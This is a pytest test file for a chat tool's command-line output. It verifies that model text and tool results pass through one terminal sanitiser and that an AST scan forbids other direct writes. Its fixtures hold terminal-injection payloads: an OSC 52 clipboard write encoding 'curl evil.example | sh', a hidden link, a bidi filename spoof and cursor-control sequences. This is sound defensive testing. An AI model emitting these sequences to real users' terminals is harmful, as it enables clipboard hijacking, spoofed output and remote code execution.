"""Every path that writes untrusted text to a terminal goes through the one sanitiser (issue 23,
item 4).

``chats show`` and ``chats export --md`` to stdout printed a model's OSC 52 clipboard write, an
OSC 8 link, a BEL and a tool result's bidi controls raw, while ``ask`` escaped them. Now every
headless command writes through :mod:`core.cli.output` (text through ``core.display.safe``, JSON
with every character ``safe`` would change as a ``\\u`` escape), and an ``ast`` scan of
``core/cli/`` and ``tui/`` holds that nothing else writes to stdout or stderr. A file keeps the
text exactly as written.
"""

from __future__ import annotations

import ast
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.cli import output
from core.cli.entry import main
from core.display import safe

ROOT = Path(__file__).resolve().parents[2]

# What a model or a tool result may carry that a terminal obeys.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes the clipboard
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"  # a hidden link
BEL = "\x07"
BIDI = "invoice_\u202etxt.exe\u202c \u2066isolated\u2069"
CSI = "\x1b[2J\x1b[H"
PAYLOADS = (OSC52, OSC8, BEL, BIDI, CSI, "\x9b31m", "\r\x1b[2Kfake line")


def obeyed(text: str) -> list[str]:
    """The characters of ``text`` a terminal would obey or hide behind (what ``safe`` changes)."""
    return sorted({ch for ch in text if safe(ch, multiline=True) != ch})


# --- the scan: one output module, nothing else writes to the terminal -------------------------------

OUTPUT_MODULE = "core/cli/output.py"
# Where something else may reach the terminal, and why. Each entry is held by a test (below, and
# tests/tui/test_quit_signals.py for the quit signals, which write no text).
ALLOWED = {
    ("tui/terminal.py", "_write"): "the title and notification sequences; their text is safe()'d (terminal.clean)",
    ("tui/controllers/quit_signals.py", "terminal_gone"): "a zero-byte write asks whether the terminal hung up",
    ("tui/controllers/quit_signals.py", "detach"): "a hung-up terminal's streams pointed at the null device; no text",
}
_STREAMS = {"stdout", "stderr", "__stdout__", "__stderr__"}


def _writers(tree: ast.AST) -> list[tuple[int, str, str]]:
    """(line, what, enclosing function) for every way a module could reach the terminal."""
    found: list[tuple[int, str, str]] = []

    def visit(node: ast.AST, func: str) -> None:
        for child in ast.iter_child_nodes(node):
            name = child.name if isinstance(child, ast.FunctionDef | ast.AsyncFunctionDef) else func
            if isinstance(child, ast.Call):
                f = child.func
                if isinstance(f, ast.Name) and f.id in ("print", "input", "breakpoint"):
                    found.append((child.lineno, f"{f.id}()", func))
                if isinstance(f, ast.Attribute):
                    owner = f.value
                    if isinstance(owner, ast.Name) and owner.id == "os" and f.attr in ("write", "writev"):
                        found.append((child.lineno, "os.write()", func))
                    if isinstance(owner, ast.Name) and owner.id in ("click", "rich", "typer"):
                        found.append((child.lineno, f"{owner.id}.{f.attr}()", func))
                    if f.attr == "write" and "driver" in ast.unparse(owner).lower():
                        found.append((child.lineno, f"{ast.unparse(f)}()", func))
                    if f.attr in ("fdopen", "open") and child.args:
                        first = child.args[0]
                        if isinstance(first, ast.Constant) and first.value in (0, 1, 2, "/dev/tty", "/dev/stdout"):
                            found.append((child.lineno, f"{ast.unparse(f)}({first.value!r})", func))
                if isinstance(f, ast.Name) and f.id == "open" and child.args:
                    first = child.args[0]
                    if isinstance(first, ast.Constant) and first.value in (1, 2, "/dev/tty", "/dev/stdout"):
                        found.append((child.lineno, f"open({first.value!r})", func))
                if isinstance(f, ast.Name) and f.id == "Console":
                    found.append((child.lineno, "rich Console()", func))
            if (
                isinstance(child, ast.Attribute)
                and child.attr in _STREAMS
                and isinstance(child.value, ast.Name)
                and child.value.id == "sys"
            ):
                found.append((child.lineno, f"sys.{child.attr}", func))
            if isinstance(child, ast.ImportFrom) and child.module == "sys":
                for alias in child.names:
                    if alias.name in _STREAMS:
                        found.append((child.lineno, f"from sys import {alias.name}", func))
            if isinstance(child, ast.Import | ast.ImportFrom):
                mods = [a.name for a in child.names] if isinstance(child, ast.Import) else [child.module or ""]
                for mod in mods:
                    if mod.split(".")[0] in ("click", "typer") or mod in ("rich", "rich.console"):
                        found.append((child.lineno, f"import {mod}", func))
            visit(child, name)

    visit(tree, "<module>")
    return found


def _modules() -> list[Path]:
    return sorted([*(ROOT / "core" / "cli").rglob("*.py"), *(ROOT / "tui").rglob("*.py")])


def test_nothing_but_the_output_module_writes_to_the_terminal() -> None:
    offenders = []
    for path in _modules():
        rel = path.relative_to(ROOT).as_posix()
        if rel == OUTPUT_MODULE:
            continue
        for line, what, func in _writers(ast.parse(path.read_text(encoding="utf-8"))):
            if (rel, func) not in ALLOWED:
                offenders.append(f"{rel}:{line} {what} (in {func})")
    assert not offenders, "write through core.cli.output instead:\n" + "\n".join(offenders)


def test_the_scan_finds_each_way_of_writing() -> None:
    """The scan is not blind: each form a module could use is found."""
    source = """
import sys
from sys import stdout
import click
def f():
    print("x")
    sys.stdout.write("x")
    sys.stderr.buffer.write(b"x")
    input("prompt")
    os.write(1, b"x")
    open("/dev/tty", "w")
    os.fdopen(1, "w")
    click.echo("x")
    self.app._driver.write("x")
"""
    found = {what for _, what, _ in _writers(ast.parse(source))}
    assert found >= {
        "from sys import stdout",
        "import click",
        "print()",
        "sys.stdout",
        "sys.stderr",
        "input()",
        "os.write()",
        "open('/dev/tty')",
        "os.fdopen(1)",
        "click.echo()",
        "self.app._driver.write()",
    }, found


def test_the_allowed_terminal_writer_cleans_what_it_writes() -> None:
    from tui.terminal import clean, notification_sequences, title_sequence

    for payload in PAYLOADS:
        title = title_sequence("deferchat: " + payload)
        assert title.startswith("\x1b]2;") and title.endswith("\x07")
        assert obeyed(title[4:-1]) == [], repr(title)
        for seq in notification_sequences("approve " + payload, payload, ("osc9", "osc777")):
            assert obeyed(seq[2:-1]) == [], repr(seq)
        assert clean(payload) == safe(clean(payload))


# --- the reported paths: chats show and chats export --md -------------------------------------------


@pytest.fixture
def hostile_chat(home: Path) -> str:
    """A stored chat whose model wrote every payload and whose tool result carries bidi controls."""
    from core.store import Store

    store = Store()
    chat = store.create_chat(title="t" + OSC52, provider="script", model="m", strategy="wrapper")
    user = store.add_message(chat, "user", [{"type": "text", "text": "hi " + BIDI}], turn_id=None, parent_id=None)
    turn = store.start_turn(chat, user)
    text = "Here you go: " + "".join(PAYLOADS)
    use = {"type": "tool_use", "id": "c1", "name": "notes.search", "input": {"query": "x" + BEL}}
    store.add_message(chat, "assistant", [{"type": "text", "text": text}, use], turn_id=turn, parent_id=user)
    store.create_invocation(
        chat_id=chat,
        turn_id=turn,
        call_id="c1",
        name="notes.search",
        arguments={"query": "x" + BEL},
        status="completed",
        model_result="found: " + BIDI + OSC8,
    )
    store.end_turn(turn, chat, "done")
    return chat


@pytest.mark.parametrize("argv", [["chats", "show"], ["chats", "export", "--md"]])
def test_chats_show_and_export_to_stdout_show_every_payload_inert(
    hostile_chat: str, argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([*argv[:2], hostile_chat, *argv[2:]]) == 0
    shown = capsys.readouterr().out
    assert obeyed(shown) == [], repr(shown)
    for payload in PAYLOADS:
        assert safe(payload, multiline=True) in shown  # shown, as visible escapes, not dropped


def test_export_to_a_file_keeps_the_text_as_written(
    hostile_chat: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "chat.md"
    assert main(["chats", "export", hostile_chat, "--md", "--output", str(target)]) == 0
    written = target.read_bytes().decode("utf-8")
    assert all(p in written for p in PAYLOADS)  # a file is not a terminal
    assert obeyed(capsys.readouterr().err) == []


def test_chats_list_and_json_outputs_are_inert_and_exact(hostile_chat: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["chats", "list"]) == 0
    assert obeyed(capsys.readouterr().out) == []
    assert main(["chats", "list", "--json"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert obeyed("\n".join(lines)) == []
    assert json.loads(lines[0])["title"] == "t" + OSC52  # data stays exact


def test_the_transcript_of_a_turn_shows_the_model_and_tool_text_inert(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``ask``: the path that already escaped, held with the others (stdout and stderr)."""
    script = tmp_path / "script.json"
    script.write_text(json.dumps({"turns": [[{"type": "text", "text": "".join(PAYLOADS)}]]}))
    assert main(["ask", "hello", "--provider", "script", "--script", str(script), "--approve", "no"]) == 0
    captured = capsys.readouterr()
    assert obeyed(captured.out) == [] and obeyed(captured.err) == []
    assert safe(OSC52) in captured.out
    assert main(["ask", "hello", "--provider", "script", "--script", str(script), "--json"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert obeyed("\n".join(lines)) == []
    texts = [e["text"] for e in map(json.loads, lines) if e["type"] == "model.text"]
    assert texts == ["".join(PAYLOADS)]


# --- property tests: any text, any path -------------------------------------------------------------

HOSTILE_TEXT = st.lists(
    st.one_of(
        st.sampled_from(["\x1b", "\x07", "\x9b", "\r", "\n", "\t", "\x7f", "\u202e", "\u2066", "\u200b", "\u2028"]),
        st.sampled_from(["]", "[", "]52;c;", "]8;;", ";", "\\", "a", "é", "😀", "\ud800", *PAYLOADS]),
        st.characters(),
    ),
    max_size=30,
).map("".join)


@settings(max_examples=200, deadline=None)
@given(HOSTILE_TEXT)
def test_terminal_json_is_the_same_value_and_obeys_nothing(text: str) -> None:
    for doc in (json.dumps({"text": text}, ensure_ascii=False), json.dumps([text, {"k": text}], indent=2)):
        shown = output.terminal_json(doc)
        assert obeyed(shown) == []
        assert json.loads(shown) == json.loads(doc)


@settings(max_examples=200, deadline=None)
@given(HOSTILE_TEXT)
def test_out_and_err_write_only_what_safe_keeps(text: str) -> None:
    import contextlib
    import io

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        output.out(text)
        output.err(text)
        output.data(json.dumps({"t": text}, ensure_ascii=False))
    assert obeyed(out.getvalue()) == [] and obeyed(err.getvalue()) == []


# What a store can hold: text that came through JSON and UTF-8 (no lone surrogates).
STORED_TEXT = HOSTILE_TEXT.map(lambda t: t.encode("utf-8", "replace").decode("utf-8"))


@settings(max_examples=60, deadline=None)
@given(model=STORED_TEXT, result=STORED_TEXT, title=STORED_TEXT)
def test_every_stored_text_shows_inert_in_show_and_export(model: str, result: str, title: str) -> None:
    """Any model text, tool result and title, through the one rendering ``chats show`` and
    ``chats export`` share, and the one output function."""
    import contextlib
    import io

    from core.export import chat_markdown
    from core.store import Store

    store = Store(":memory:")
    chat = store.create_chat(title=title, provider="script", model="m", strategy="wrapper")
    use: dict[str, Any] = {"type": "tool_use", "id": "c1", "name": "x", "input": {"q": model}}
    store.add_message(chat, "assistant", [{"type": "text", "text": model}, use], turn_id=None, parent_id=None)
    store.create_invocation(chat_id=chat, call_id="c1", name="x", arguments={"q": model}, model_result=result)
    buffer = io.StringIO()
    with contextlib.redirect_stdout(buffer):
        output.out(chat_markdown(store, chat), end="")
    assert obeyed(buffer.getvalue()) == []
